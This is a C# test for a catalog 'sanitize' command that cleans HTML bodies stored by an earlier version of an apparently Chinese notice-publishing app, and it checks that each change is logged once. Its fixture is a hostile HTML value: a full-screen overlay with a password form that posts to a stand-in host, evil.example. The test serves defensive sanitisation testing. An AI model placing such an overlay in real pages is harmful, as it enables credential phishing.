using Gongkai.App.Catalog;
using Gongkai.App.Data;
using Gongkai.Tests.Cli;
using Gongkai.Tests.Data;
using Microsoft.EntityFrameworkCore;

namespace Gongkai.Tests.Catalog;

/// <summary>`gongkai catalog sanitize` brings bodies stored by an earlier version under today's rules, logged on each item changed.</summary>
public class SanitizeCatalogBodiesTests
{
    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Bodies_stored_before_todays_rules_should_be_cleaned_once_and_logged(DatabaseProvider provider)
    {
        await using var db = await TestDatabase.CreateAsync(provider);
        db.Clock.SetToday(new DateOnly(2024, 5, 8));
        var clean = await CatalogWorkflowTests.SubmittedAsync(db, CatalogWorkflowTests.Notice());
        var old = await CatalogWorkflowTests.SubmittedAsync(db, CatalogWorkflowTests.Notice("关于统一身份认证升级的通知"));
        const string stored = "<p>正文</p><div style=\"position:fixed;inset:0\"><form action=\"https://evil.example\"><input type=\"password\"></form></div>";
        await using (var scope = db.Scope())
        {
            await db.Get<GongkaiDb>(scope).CatalogItems.Where(i => i.Id == old.Id).ExecuteUpdateAsync(s => s.SetProperty(i => i.Body, stored));
        }

        var run = await CliRun.RunAsync(db, "catalog", "sanitize");

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("已清理 1 条信息的正文", run.Out);
        await using (var scope = db.Scope())
        {
            var items = await db.Get<GongkaiDb>(scope).CatalogItems.AsNoTracking().Include(i => i.Log).Where(i => i.Id == old.Id || i.Id == clean.Id).ToListAsync();
            var cleaned = items.Single(i => i.Id == old.Id);
            Assert.Equal("<p>正文</p><div></div>", cleaned.Body);
            Assert.Equal(CatalogActions.BodySanitized, cleaned.Log.MaxBy(e => e.Sequence)!.Action);
            Assert.DoesNotContain(items.Single(i => i.Id == clean.Id).Log, e => e.Action == CatalogActions.BodySanitized);
        }
        Assert.Contains("未作改动", (await CliRun.RunAsync(db, "catalog", "sanitize")).Out);
    }
}
